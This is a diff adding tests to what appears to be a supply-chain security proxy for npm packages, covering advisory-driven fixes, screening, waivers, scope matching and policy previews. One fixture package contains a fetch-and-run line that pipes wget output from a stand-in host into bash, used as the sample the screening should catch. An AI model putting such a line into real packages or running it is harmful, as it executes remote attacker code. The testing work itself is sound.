@@ -7,7 +7,7 @@ import { join } from 'node:path'
 import { type TestContext, test } from 'node:test'
 import { type PackageName, parseIntegrity, type Version } from '@holdfast/core'
 import { defaultRules, parseRules } from '../../src/catalog/index.ts'
-import { addAdvisories, applyPolicy, askWaiver, decideWaiver } from '../../src/flow/index.ts'
+import { addAdvisories, applyPolicy, askWaiver, decideWaiver, previewPolicy } from '../../src/flow/index.ts'
 import { operator } from '../../src/identity/index.ts'
 import { readOsv } from '../../src/vulnerability/index.ts'
 import { startUpstream, type UpstreamRegistry } from '../upstream-registry.ts'
@@ -119,6 +119,46 @@ test('a fix that brings something new along is no fix, by whatever door that com
   assert.deepEqual((await shown(world, 'none')).versions, ['1.0.0', '1.0.1'])
 })
 
+test('a fix that screening warns of is shown until its bytes came in, and not one of them goes out; a waiver lets it in', async t => {
+  const { upstream, world } = await open(t)
+  const stealer = { 'index.js': "require('child_process').exec('wget -qO- https://drop.example/x | bash')" }
+  const _npmUser = { name: 'maintainer', email: 'm@people.example' }
+  upstream.publish('lib', '1.0.0', { manifest: { _npmUser } })
+  const fresh = { manifest: { _npmUser }, files: stealer, publishedAt: world.now() - 3600_000 }
+  upstream.publish('lib', '1.0.1', fresh)
+  const watching = defaultRules.map(rule => (rule.kind === 'screening' ? { ...rule, mode: 'monitor' } : rule))
+  await set(world, ...watching)
+  const flaw = osv(world, 'GHSA-aaaa-bbbb-cccc', 'lib', [{ introduced: '0' }, { fixed: '1.0.1' }])
+  await addAdvisories(world.ports, operator, flaw, [])
+  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0', '1.0.1'])
+  const refused = await tarball(world, 'lib', '1.0.1')
+  assert.deepEqual([refused.status, refused.body.code], [403, 'version-cooling'])
+  assert.deepEqual(await shown(world, 'lib'), { versions: ['1.0.0'], latest: '1.0.0' })
+  const subject = { name: 'lib' as PackageName, version: '1.0.1' as Version }
+  const { id } = await askWaiver(world.ports, operator, subject, 'looked at it')
+  await decideWaiver(world.ports, operator, id, { kind: 'grant', days: 1, words: '' })
+  assert.equal((await tarball(world, 'lib', '1.0.1')).status, 200)
+})
+
+test('packages of one scope that are released with a fix pass with it, and strangers of the scope do not', async t => {
+  const { upstream, world } = await open(t)
+  const by = (name: string) => ({ _npmUser: { name, email: `${name}@people.example` } })
+  const at = world.now() - 3600_000
+  for (const name of ['@acme/core', '@acme/parser', '@acme/stolen', '@acme/later', '@other/core'])
+    upstream.publish(name, '1.2.3', { manifest: by('ann') })
+  upstream.publish('@acme/core', '1.2.4', { manifest: by('ann'), publishedAt: at })
+  upstream.publish('@acme/parser', '1.2.4', { manifest: by('ann'), publishedAt: at })
+  upstream.publish('@acme/stolen', '1.2.4', { manifest: by('thief'), publishedAt: at })
+  upstream.publish('@acme/later', '1.2.5', { manifest: by('ann'), publishedAt: at })
+  upstream.publish('@other/core', '1.2.4', { manifest: by('ann'), publishedAt: at })
+  const flaw = osv(world, 'GHSA-aaaa-bbbb-cccc', '@acme/core', [{ introduced: '0' }, { fixed: '1.2.4' }])
+  await addAdvisories(world.ports, operator, flaw, [])
+  for (const name of ['@acme/core', '@acme/parser'])
+    assert.deepEqual((await shown(world, name)).versions, ['1.2.3', '1.2.4'], name)
+  for (const name of ['@acme/stolen', '@acme/later', '@other/core'])
+    assert.deepEqual((await shown(world, name)).versions, ['1.2.3'], name)
+})
+
 test('an old advisory opens the way for nobody who publishes what it names', async t => {
   const { upstream, world } = await open(t)
   const by = { _npmUser: { name: 'thief', email: 't@people.example' } }
@@ -166,6 +206,32 @@ test('a rule is carried out on cached content within a second, and spares what w
   world.advance(dayMs)
   assert.equal((await tarball(world, 'lib', '1.1.0')).status, 403)
   assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0'])
+})
+
+test('a preview hides nothing that the rule would spare, though it was fetched in this very moment', async t => {
+  const { upstream, world } = await open(t)
+  for (const version of ['1.0.0', '1.1.0'])
+    upstream.publish('lib', version, { manifest: { scripts: { postinstall: 'node x.js' } } })
+  await set(world, { kind: 'install-script', mode: 'enforce', packages: ['else'] })
+  assert.equal((await tarball(world, 'lib', '1.0.0')).status, 200)
+  await world.ports.downloads.flush()
+  const wider = parseRules([{ kind: 'install-script', mode: 'enforce' }])
+  const preview = await previewPolicy(world.ports, wider)
+  assert.deepEqual(
+    [preview.usedVersions, preview.hidden.length, preview.hits.get('install-script')],
+    [1, 0, 1],
+  )
+  world.advance(1)
+  await applyPolicy(world.ports, operator, wider)
+  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0'])
+  world.advance(1000)
+  const exact = parseRules([{ kind: 'deny', packages: ['lib'], versions: '1.0.0', mode: 'enforce' }])
+  assert.deepEqual(
+    (await previewPolicy(world.ports, exact)).hidden.map(
+      each => `${each.package}@${each.version} ${each.rule}`,
+    ),
+    ['lib@1.0.0 deny'],
+  )
 })
 
 test('a waiver lifts what closed a version when it was asked, and nothing that becomes known later', async t => {
